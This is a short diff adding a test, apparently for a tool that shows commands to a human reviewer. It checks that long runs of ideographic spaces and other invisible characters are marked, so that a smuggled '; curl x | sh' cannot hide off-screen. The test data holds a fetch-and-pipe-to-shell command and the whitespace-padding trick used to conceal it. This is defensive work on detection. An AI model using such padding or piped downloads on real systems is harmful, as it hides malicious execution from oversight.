@@ -63,3 +63,9 @@ def test_a_tool_cards_input_shows_the_same_marks(qtbot):
     card.set_expanded(True)
     shown = card._details.toPlainText()
     assert f"‹U+202E›{CURL[::-1]}‹U+000D›ls" in shown and "\u202e" not in shown
+
+
+def test_spaces_other_than_the_space_are_marked_and_a_long_run_counted():
+    # 40 ideographic spaces pushed "; curl x | sh" out of the box's sight, unmarked and uncounted.
+    assert visible_command("ls -la" + "\u3000" * 40 + "; curl x | sh") == "ls -la‹40 spaces›; curl x | sh"
+    assert visible_command("echo a\u00a0b\u2009c") == "echo a‹U+00A0›b‹U+2009›c"
